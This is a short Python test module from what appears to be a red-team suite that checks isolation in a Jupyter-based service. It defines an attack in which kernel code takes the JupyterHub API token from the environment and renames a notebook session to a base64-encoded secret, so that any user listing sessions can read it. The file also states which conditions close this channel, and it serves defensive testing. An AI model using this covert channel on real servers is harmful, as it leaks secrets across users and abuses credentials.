from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

RENAME = """
import base64, json, os, urllib.request
server, session = os.environ.get("JUPYTERHUB_SERVICE_URL", "http://127.0.0.1:8888/"), {session!r}
try:
    urllib.request.urlopen(urllib.request.Request(
        server.replace("0.0.0.0", "127.0.0.1") + "api/sessions/" + session,
        json.dumps({{"name": base64.b64encode(secret).decode(), "path": "x"}}).encode(), method="PATCH",
        headers={{"Authorization": "token " + os.environ.get("JUPYTERHUB_API_TOKEN", "")}}), timeout=3).read()
except OSError as problem:
    print(problem)
"""


@channel(
    "sessions",
    "A session that a kernel renames through the server's own API, and everybody can list",
    closed_by="an engine has no network and no token of the desk's",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    body = {"path": "s.ipynb", "name": "s", "type": "notebook", "kernel": {"id": site.kernel_id}}
    session = site.ask("POST", "api/sessions", body).document.get("id", "")
    site.run(RENAME.format(session=session))
    return site.get("api/sessions").body
